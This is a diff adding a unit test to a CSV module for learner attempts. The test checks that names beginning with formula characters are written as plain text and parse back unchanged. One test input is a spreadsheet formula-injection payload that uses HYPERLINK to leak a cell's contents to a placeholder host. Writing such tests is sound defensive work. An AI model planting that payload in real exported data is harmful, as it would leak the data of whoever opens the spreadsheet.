@@ -6,7 +6,9 @@ import {
   attemptCsvLine,
   parseAttemptsCsv,
   readAttemptsFile,
+  splitCsvLine,
 } from '../../../electron/core/learner/attempts-csv.ts';
+import { toCsv } from '../../../electron/core/reports/csv.ts';
 import { tempDir } from './fixtures.ts';
 
 const HEADER = 'learner,exercise,concepts,timestamp,outcome,hints';
@@ -81,6 +83,42 @@ describe('attempts CSV', () => {
     expect(attemptCsvLine(a)).toBe(
       '"Ada, the first",python/fizz,python/loops;python/variables,2026-01-05T09:00:00.000Z,0.5,1',
     );
+  });
+
+  it('writes text a spreadsheet would run as a formula as text, as the reports do, and reads it back as written', () => {
+    const names = [
+      '=HYPERLINK("http://example.com/?leak="&A1,"Ada")',
+      '+1',
+      '-2+3',
+      '@SUM(A1:A2)',
+      "'=already quoted",
+      "''@twice",
+      "O'Brien",
+      'Ada',
+    ];
+    for (const learner of names) {
+      const a = {
+        learner,
+        exercise: learner.startsWith('-') ? '-neg' : 'python/fizz',
+        concepts: learner.startsWith('@') ? ['=c1', 'c2'] : ['python/loops'],
+        at: Date.UTC(2026, 0, 5, 9),
+        outcome: 1,
+        hints: 0,
+      };
+      const line = attemptCsvLine(a);
+      const cells = splitCsvLine(line) as string[];
+      // What a spreadsheet sees: no text cell starts with a formula character.
+      for (const cell of cells.slice(0, 3)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+      // The learner cell is the one the reports' CSV writes for the same text.
+      if (!learner.startsWith("'")) {
+        const report = toCsv(['learner'], [[learner]])
+          .replace(/^\uFEFF/, '')
+          .split('\r\n')[1]!;
+        expect(cells[0]).toBe((splitCsvLine(report) as string[])[0]);
+      }
+      const [row] = parse(`${HEADER}\n${line}\n`);
+      expect(row).toEqual({ ...a, revealed: false, line: 2 });
+    }
   });
 
   it('takes 29 February in a leap year', () => {
